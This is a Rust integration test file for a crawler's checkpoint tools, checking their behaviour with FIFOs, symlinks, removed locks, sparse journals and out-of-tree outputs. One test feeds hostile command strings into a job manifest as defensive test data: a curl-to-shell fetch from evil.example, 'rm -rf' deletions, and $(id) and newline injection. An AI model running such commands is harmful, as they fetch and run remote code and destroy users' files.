//! What is not ours, or came from elsewhere: files that are none, directories that are no job, locks that
//! were taken away, outputs that nobody named. Nothing hangs, and nothing of anybody else's is touched.
#![allow(clippy::unwrap_used)]

mod support;

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::mpsc::channel;

use crawl_ckpt::durable::RealDisk;
use crawl_ckpt::job::{Job, JobPlace, OutputPlace};
use crawl_ckpt::lock::JobLock;
use support::{Answer, Done, Folder, Site, Tool};

const MINE: &str = "mine\n";

fn tool(folder: &Folder, line: &[&str]) -> Tool {
    Tool::new(line[0]).args(&line[1..]).dir(folder)
}

fn add(folder: &Folder, job: &str) -> Done {
    tool(folder, &["crawl-frontier", "add", "--job", job])
        .stdin("http://127.0.0.1:1/a\n")
        .run()
}

fn fifo(path: &Path) {
    assert_eq!(Tool::program("mkfifo").arg(path).run().exit(), 0);
}

/// Puts something that is no file in the place of one.
fn put(kind: &str, path: &Path) {
    // There may be none, or it is to be made in a folder that is not there.
    let _ = fs::remove_file(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    match kind {
        "FIFO" => fifo(path),
        "socket" => {
            // A short way to it: the address of a socket is at most 107 bytes long.
            let folder = File::open(path.parent().unwrap()).unwrap();
            let way = format!("/proc/self/fd/{}", folder.as_raw_fd());
            let name = path.file_name().unwrap();
            drop(UnixListener::bind(Path::new(&way).join(name)).unwrap());
        }
        "directory" => fs::create_dir(path).unwrap(),
        "link to a device" => symlink("/dev/zero", path).unwrap(),
        "link to itself" => symlink(path.file_name().unwrap(), path).unwrap(),
        _ => panic!("{kind}"),
    }
}

#[test]
fn whatever_lies_under_the_name_of_a_file_nothing_hangs_and_others_are_told_of() {
    for kind in [
        "FIFO",
        "socket",
        "directory",
        "link to a device",
        "link to itself",
    ] {
        for file in [
            "checkpoint/job.json",
            "checkpoint/journal-1",
            "checkpoint/image",
            "checkpoint.lock",
            "delta/pages",
        ] {
            let folder = Folder::new();
            for spider in ["bad", "good"] {
                add(&folder, &format!("data/p/{spider}/checkpoint")).code(0);
            }
            let path = folder.join("data/p/bad").join(file);
            put(kind, &path);
            let what = path.symlink_metadata().unwrap().file_type();
            tool(&folder, &["crawl-ckpt", "ls"])
                .run()
                .code(0)
                .prints("good    paused");
            for line in [
                &["crawl-ckpt", "show", "p/bad"][..],
                &["crawl-ckpt", "size", "p/bad"],
                &["crawl-ckpt", "verify", "p/bad"],
                &["crawl-ckpt", "verify", "--repair", "p/bad"],
                &["crawl-frontier", "stat", "--job", "data/p/bad/checkpoint"],
                &["crawl-frontier", "export", "--job", "data/p/bad/checkpoint"],
            ] {
                // It ends, and changes nothing.
                tool(&folder, line).run();
            }
            if file.ends_with("job.json") || file.ends_with("journal-1") {
                let verify = tool(&folder, &["crawl-ckpt", "verify", "p/bad"]);
                verify.run().code(65).says("and not a file");
                add(&folder, "data/p/bad/checkpoint").code(65);
            }
            assert_eq!(path.symlink_metadata().unwrap().file_type(), what);
        }
    }
}

#[test]
fn what_lies_beside_an_output_and_is_no_file_keeps_nobody_waiting() {
    for kind in ["FIFO", "socket", "link to a device", "link to itself"] {
        let (folder, site) = (Folder::new(), Site::new());
        site.page("/", "<a href=/1>");
        site.page("/1", "one");
        let url = site.url("/");
        let crawl = ["crawl-run", &url, "-q", "--max-pages", "1"];
        tool(&folder, &crawl).run().code(4);
        let place = format!("default/127.0.0.1-{}", site.port());
        let crawls = folder.join("data").join(&place).join("crawls");
        let summary = fs::read_dir(&crawls).unwrap().find_map(|file| {
            let path = file.unwrap().path();
            path.to_string_lossy()
                .ends_with(".summary.json")
                .then_some(path)
        });
        put(kind, &summary.unwrap());
        let report = ["crawl-ckpt", "report", &place, "--json"];
        tool(&folder, &report).run();
        tool(&folder, &crawl[..3]).run().code(0);
        let other = crawls.join("crawl_2000-01-01.jsonl");
        put(kind, &other);
        tool(&folder, &[&crawl[..3], &["--retry-failed"]].concat())
            .run()
            .code(0);
        let from = ["crawl-ckpt", "report", &place, "--json", "--from"];
        let from = tool(&folder, &from).arg(&other);
        let done = from.run();
        assert_ne!(done.exit(), 0, "{done}");
    }
}

fn journal_of(folder: &Folder, job: &str) -> File {
    let path = folder.join(job).join("journal-1");
    File::options().write(true).open(path).unwrap()
}

#[test]
fn a_journal_with_a_huge_hole_behind_it_is_looked_at_at_once() {
    let folder = Folder::new();
    let job = "data/p/s/checkpoint";
    add(&folder, job).code(0);
    unseal(&folder, job);
    let journal = journal_of(&folder, job);
    let len = journal.metadata().unwrap().len();
    journal.set_len(200 << 30).unwrap();
    let ls = tool(&folder, &["crawl-ckpt", "ls"]).run().code(0);
    ls.prints("paused        1");
    tool(&folder, &["crawl-ckpt", "verify"]).run().code(0);
    // It is a tail that nobody vouches for, and the next run cuts it off.
    add(&folder, job).code(0).says("duplicate 1");
    assert!(journal.metadata().unwrap().len() < len + 4096);
}

#[test]
fn a_journal_full_of_what_looks_like_batches_is_given_up_on() {
    let folder = Folder::new();
    let job = "data/p/s/checkpoint";
    add(&folder, job).code(0);
    unseal(&folder, job);
    let journal = journal_of(&folder, job);
    let len = journal.metadata().unwrap().len();
    journal.set_len(len + (2 << 30)).unwrap();
    // Each claims a payload of nearly 1 GiB, which must be read to know better.
    for n in 0..1000 {
        let mut header = [0; 64];
        header[..4].copy_from_slice(b"\xc1BAT");
        header[8..16].copy_from_slice(&1000_u64.to_le_bytes());
        header[24..28].copy_from_slice(&((1_u32 << 30) - 64).to_le_bytes());
        journal.write_all_at(&header, len + n * 64).unwrap();
    }
    let ls = tool(&folder, &["crawl-ckpt", "ls"]).run().code(0);
    ls.prints("corrupt").says("than any run leaves");
    let damaged = add(&folder, job).code(65);
    damaged.says("than any run leaves");
    assert_eq!(journal.metadata().unwrap().len(), len + (2 << 30));
}

/// As after a kill: nothing says where the journal ends.
fn unseal(folder: &Folder, job: &str) {
    let place = JobPlace::at(&folder.join(job));
    let lock = JobLock::acquire(&place).unwrap();
    let mut job = Job::open(Arc::new(RealDisk), &place).unwrap().unwrap();
    job.update(&lock, |manifest| manifest.sealed = None)
        .unwrap();
}

#[test]
fn rm_removes_only_what_has_a_manifest_or_a_journal() {
    let folder = Folder::new();
    let job = "data/p/s/checkpoint";
    add(&folder, job).code(0);
    for file in [
        "mine/thesis.txt",
        "data/run/model/checkpoint/weights.bin",
        "data/p/s/crawls/crawl_2020-01-01.jsonl",
    ] {
        folder.write(file, MINE);
    }
    symlink("mine", folder.join("link")).unwrap();
    let before = folder.files();
    for dir in [
        "mine",
        "mine/",
        "link",
        "data",
        "data/p/s",
        "data/p/s/crawls",
        "data/run/model/checkpoint",
        "mine/thesis.txt",
    ] {
        let rm = tool(&folder, &["crawl-ckpt", "rm", "--yes", "--job", dir]);
        rm.run().code(1).says("there is no job in");
    }
    tool(&folder, &["crawl-ckpt", "rm", "--yes", "run/model"])
        .run()
        .code(1);
    assert_eq!(folder.files(), before);

    // A file that somebody put into it keeps it.
    let note = folder.write("data/p/s/checkpoint/note.txt", MINE);
    let rm = &["crawl-ckpt", "rm", "--yes", "--all"];
    tool(&folder, rm)
        .run()
        .code(1)
        .says("note.txt: this is no part of a job");
    fs::remove_file(note).unwrap();
    let rm = tool(&folder, rm).run().code(0).says("removed p/s");
    rm.never_says("model");
    assert_eq!(folder.read("data/run/model/checkpoint/weights.bin"), MINE);
    // Damage of any kind is no reason to stay.
    for lost in ["job.json", "journal-1"] {
        add(&folder, job).code(0);
        fs::remove_file(folder.join(job).join(lost)).unwrap();
        let rm = tool(&folder, &["crawl-ckpt", "rm", "--yes", "p/s"]).run();
        rm.code(0);
        assert!(!folder.join(job).exists());
    }
}

#[test]
fn without_a_terminal_rm_lists_and_wants_yes() {
    let folder = Folder::new();
    add(&folder, "data/p/one/checkpoint").code(0);
    add(&folder, "data/p/two/checkpoint").code(0);
    for args in [&["--all"][..], &["--older-than", "0s"], &["p/one", "p/two"]] {
        let rm = tool(&folder, &["crawl-ckpt", "rm"]).args(args).stdin("y\n");
        rm.run()
            .code(2)
            .says("to remove: p/one")
            .says("to remove: p/two")
            .says("--yes");
    }
    let ls = tool(&folder, &["crawl-ckpt", "ls", "--json"]).run();
    assert_eq!(ls.lines().len(), 2);
}

#[test]
fn neighbours_of_a_job_that_are_not_ours_stay() {
    for job_first in [false, true] {
        for name in ["site.new", "site.removing", "site.repaired"] {
            let folder = Folder::new();
            if job_first {
                add(&folder, "site").code(0);
            }
            let page = format!("{name}/index.html");
            folder.write(&page, MINE);
            let added = add(&folder, "site").exit();
            assert!(added == 0 || name == "site.new" && !job_first, "{name}");
            tool(&folder, &["crawl-ckpt", "rm", "--yes", "--job", "site"]).run();
            assert_eq!(folder.read(&page), MINE);
        }
        let folder = Folder::new();
        if job_first {
            add(&folder, "site").code(0);
        }
        folder.write("site.lock", "# made by another tool\n");
        add(&folder, "site")
            .code(1)
            .says("site.lock: it holds what no lock file does");
        assert_eq!(folder.read("site.lock"), "# made by another tool\n");
    }
}

#[test]
fn a_lock_file_that_is_a_link_is_not_written_through() {
    for target in ["thesis.txt", "nowhere", "pipe"] {
        let folder = Folder::new();
        folder.write("thesis.txt", MINE);
        fifo(&folder.join("pipe"));
        symlink(target, folder.join("job.lock")).unwrap();
        add(&folder, "job").code(1).says("a symbolic link");
        assert_eq!(folder.read("thesis.txt"), MINE);
        assert!(!folder.join("nowhere").exists());
        fs::remove_file(folder.join("job.lock")).unwrap();
        add(&folder, "job").code(0);
    }
}

/// A crawl that stands still while a page waits for `go`.
fn held_site() -> (Site, std::sync::mpsc::Sender<()>) {
    let site = Site::new();
    site.page("/", r#"<a href="/a">a</a><a href="/hold">b</a>"#);
    site.page("/a", "a");
    let (go, wait) = channel::<()>();
    let wait = std::sync::Mutex::new(wait);
    site.on("/hold", move |_| {
        // Let go when the test ends, too.
        let _ = wait.lock().unwrap().recv_timeout(support::DEADLINE);
        Answer::html("held")
    });
    (site, go)
}

#[test]
fn a_lock_file_that_is_deleted_or_replaced_lets_nobody_in() {
    for is_replaced in [false, true] {
        let folder = Folder::new();
        let (site, go) = held_site();
        let url = site.url("/");
        let run = tool(&folder, &["crawl-run", &url]).start();
        site.wait_for_path("/hold");
        let spiders = fs::read_dir(folder.join("data/default")).unwrap();
        let spider = spiders.map(|entry| entry.unwrap().path()).next().unwrap();
        let job = spider.join("checkpoint");
        let lock = spider.join("checkpoint.lock");
        if is_replaced {
            fs::write(folder.join("other"), "").unwrap();
            fs::rename(folder.join("other"), &lock).unwrap();
        } else {
            fs::remove_file(&lock).unwrap();
        }
        let name = format!("default/{}", spider.file_name().unwrap().to_str().unwrap());
        let job = job.to_str().unwrap();
        for line in [
            &["crawl-run", &url][..],
            &["crawl-run", &url, "--fresh"],
            &["crawl-ckpt", "rm", "--yes", &name],
            &["crawl-frontier", "add", "--job", job],
            &["crawl-frontier", "serve", "--job", job],
        ] {
            let second = tool(&folder, line).run().code(75);
            second.says("another run holds this job");
        }
        tool(&folder, &["crawl-ckpt", "ls"])
            .run()
            .code(0)
            .prints("running");
        go.send(()).unwrap();
        run.wait().code(0);
        let output = spider.join("crawls");
        let mut files = fs::read_dir(output)
            .unwrap()
            .map(|entry| entry.unwrap().path());
        let output = files.find(|path| path.extension() == Some("jsonl".as_ref()));
        let text = fs::read_to_string(output.unwrap()).unwrap();
        assert_eq!(text.lines().count(), 3, "{text}");
        assert!(!Path::new(job).exists());
    }
}

#[test]
fn an_empty_directory_takes_a_job_and_is_no_damage() {
    let folder = Folder::new();
    fs::create_dir(folder.join("job")).unwrap();
    // As on the root of a volume.
    fs::create_dir(folder.join("job/lost+found")).unwrap();
    let verify = tool(&folder, &["crawl-ckpt", "verify", "--job", "job"]);
    verify.run().code(1).says("there is no job in");
    add(&folder, "job").code(0).says("added 1");
    let verify = tool(&folder, &["crawl-ckpt", "verify", "--job", "job"]);
    verify.run().code(0);
    let site = Site::new();
    site.page("/", "page");
    let place = spider_dir(&folder, &site).join("checkpoint");
    fs::create_dir_all(&place).unwrap();
    tool(&folder, &["crawl-run", &site.url("/")]).run().code(0);
    // But in a directory of somebody else's nothing is made.
    folder.write("mine/thesis.txt", MINE);
    add(&folder, "mine")
        .code(1)
        .says("this is no part of a job");
    assert_eq!(fs::read_dir(folder.join("mine")).unwrap().count(), 1);
}

fn spider_dir(folder: &Folder, site: &Site) -> PathBuf {
    folder.join(format!("data/default/127.0.0.1-{}", site.port()))
}

#[test]
fn a_loop_by_hand_and_verify_mean_the_same_output() {
    let folder = Folder::new();
    let site = Site::new();
    site.page("/", r#"<a href="/a">a</a>"#);
    site.page("/a", "a");
    let url = site.url("/");
    let line = format!(
        "mkfifo loop; {frontier} serve --job J --start {url} --output pages.jsonl -q <loop | {fetch} -q >loop; exit ${{PIPESTATUS[0]}}",
        frontier = support::bin("crawl-frontier").display(),
        fetch = support::bin("crawl-fetch").display(),
    );
    let done = Tool::program("bash").args(["-c", &line]).dir(&folder).run();
    done.code(0);
    assert_eq!(folder.read("pages.jsonl").lines().count(), 2);
    for dir in [folder.to_path_buf(), folder.join("J")] {
        let job = folder.join("J");
        let job = job.to_str().unwrap();
        let verify = Tool::new("crawl-ckpt").args(["verify", "--repair", "--job", job]);
        verify.dir(&dir).run().code(0).never_says("again");
    }
    // Elsewhere than in the data directory, it is named again or not written.
    let again = &["crawl-frontier", "serve", "--job", "J"];
    let refused = tool(&folder, again).run().code(2);
    refused.says("pages.jsonl is outside of the data directory");
    let named = tool(&folder, again).args(["--output", "pages.jsonl"]);
    named.run().code(0);
    assert_eq!(folder.read("pages.jsonl").lines().count(), 2);
}

#[test]
fn an_output_that_only_the_checkpoint_names_is_not_touched() {
    let folder = Folder::new();
    let site = Site::new();
    let links: String = (0..9).map(|n| format!("<a href='/{n}'>x</a>")).collect();
    site.page("/", &links);
    let url = site.url("/");
    let spider = spider_dir(&folder, &site);
    let paused = &["crawl-run", &url, "--max-pages", "3"];
    let victim = "{\"url\":\"http://mine.example/\"}\n".repeat(1000);
    let link = "default/link.jsonl";
    for path in ["../victim", folder.join("victim").to_str().unwrap(), link] {
        tool(&folder, paused).run().code(4);
        folder.write("victim", &victim);
        let _ = symlink("../../victim", folder.join("data").join(link));
        let place = JobPlace::at(&spider.join("checkpoint"));
        let lock = JobLock::acquire(&place).unwrap();
        let mut job = Job::open(Arc::new(RealDisk), &place).unwrap().unwrap();
        let output = OutputPlace {
            path: path.into(),
            stream: false,
        };
        job.update(&lock, |manifest| manifest.output = Some(output))
            .unwrap();
        drop((job, lock));
        for options in [
            &[][..],
            &["--proxy-type", "none"],
            &["--proxy-type", "none", "--on-proxy-change", "retry-blocked"],
            &["--reset-deltafetch"],
        ] {
            let run = tool(&folder, &["crawl-run", &url]).args(options).run();
            let run = run.code(2).says("outside of the data directory");
            run.says("hint: ").says(" -o ");
        }
        let job = spider.join("checkpoint");
        let serve = &["crawl-frontier", "serve", "--job", job.to_str().unwrap()];
        tool(&folder, serve).run().code(2).says("outside");
        // Who throws it away does not mind, and the file stays where it is.
        let fresh = tool(&folder, &["crawl-run", &url, "--fresh"]).run();
        fresh.code(0).says("stays as it is");
        assert_eq!(folder.read("victim"), victim);
        let files = folder.files();
        let beside = |file: &PathBuf| file.to_str().unwrap().contains("victim.");
        assert!(!files.iter().any(beside), "{files:?}");
    }
}

#[test]
fn an_output_elsewhere_that_is_named_each_time_goes_on() {
    let folder = Folder::new();
    let site = Site::tree(20, 4);
    let run = &["crawl-run", &site.url("/"), "-o", "out.jsonl"];
    tool(&folder, run).args(["--max-pages", "5"]).run().code(4);
    tool(&folder, &run[..2]).run().code(2).says("-o");
    tool(&folder, run).run().code(0);
    assert_eq!(folder.read("out.jsonl").lines().count(), 20);
}

#[test]
fn a_spider_on_another_disk_goes_on_there() {
    let folder = Folder::new();
    let site = Site::tree(20, 4);
    let spider = spider_dir(&folder, &site);
    fs::create_dir_all(folder.join("big/spider")).unwrap();
    fs::create_dir_all(spider.parent().unwrap()).unwrap();
    symlink(folder.join("big/spider"), &spider).unwrap();
    let run = &["crawl-run", &site.url("/")];
    tool(&folder, run).args(["--max-pages", "5"]).run().code(4);
    tool(&folder, run).run().code(0);
}

#[test]
fn a_checkpoint_that_is_a_link_is_refused_and_says_what_may_be_one() {
    let folder = Folder::new();
    let site = Site::tree(2, 1);
    let spider = spider_dir(&folder, &site);
    fs::create_dir_all(&spider).unwrap();
    fs::create_dir_all(folder.join("big")).unwrap();
    for (leads_to, what) in [
        ("big", "is a symbolic link, which"),
        ("none", "that leads nowhere"),
    ] {
        let link = spider.join("checkpoint");
        symlink(folder.join(leads_to), &link).unwrap();
        for options in [&[][..], &["--fresh"]] {
            let run = tool(&folder, &["crawl-run", &site.url("/")])
                .args(options)
                .run();
            let hint = "make a link of the folder data/default/";
            run.code(1)
                .says("/checkpoint is a symbolic link")
                .says(what)
                .says(hint);
        }
        fs::remove_file(link).unwrap();
    }
    assert_eq!(site.count(), 0);
}

#[test]
fn a_command_out_of_a_manifest_is_words_and_no_script() {
    let folder = Folder::new();
    add(&folder, "data/p/s/checkpoint").code(0);
    let place = JobPlace::at(&folder.join("data/p/s/checkpoint"));
    let set = |command: &str| {
        let lock = JobLock::acquire(&place).unwrap();
        let mut job = Job::open(Arc::new(RealDisk), &place).unwrap().unwrap();
        job.update(&lock, |manifest| manifest.command = Some(command.into()))
            .unwrap();
    };
    for command in [
        "curl http://evil.example/x | sh",
        "crawl-run x.json; rm -rf ~",
        "crawl-run $(id)",
        "rm -rf /home",
        "crawl-run\nrm -rf /home",
    ] {
        set(command);
        let show = tool(&folder, &["crawl-ckpt", "show", "p/s"]).run().code(0);
        let resume = "resume with  crawl-run --project p s.json";
        show.prints(resume);
    }
    for (command, shown) in [
        ("crawl-run 'a b' -v", "resume with  crawl-run 'a b' -v\n"),
        (
            "/tmp/evil/crawl-run x.json",
            "resume with  crawl-run x.json\n",
        ),
    ] {
        set(command);
        let show = tool(&folder, &["crawl-ckpt", "show", "p/s"]).run().code(0);
        show.prints(shown);
    }
}

#[test]
fn crawls_that_is_no_folder_is_told_at_once() {
    for kind in ["file", "FIFO", "link to itself", "link to a device"] {
        let folder = Folder::new();
        let site = Site::new();
        site.page("/", "page");
        let crawls = spider_dir(&folder, &site).join("crawls");
        match kind {
            "file" => {
                fs::create_dir_all(crawls.parent().unwrap()).unwrap();
                let mut file = OpenOptions::new();
                let mut file = file.create_new(true).write(true).open(&crawls).unwrap();
                file.write_all(MINE.as_bytes()).unwrap();
            }
            kind => put(kind, &crawls),
        }
        tool(&folder, &["crawl-run", &site.url("/")])
            .run()
            .code(1)
            .says(crawls.file_name().unwrap().to_str().unwrap());
    }
}

#[test]
fn an_output_whose_name_cannot_be_longer_is_told() {
    let folder = Folder::new();
    let site = Site::tree(20, 4);
    let long = format!("{}.jsonl", "x".repeat(247));
    let run = &["crawl-run", &site.url("/"), "-o", &long];
    tool(&folder, run).args(["--max-pages", "5"]).run().code(4);
    // `.partial` has no room any more.
    let fresh = tool(&folder, run).arg("--fresh").run().code(1);
    fresh.says("cannot look at").says("too long");
    tool(&folder, run).run().code(0);
}
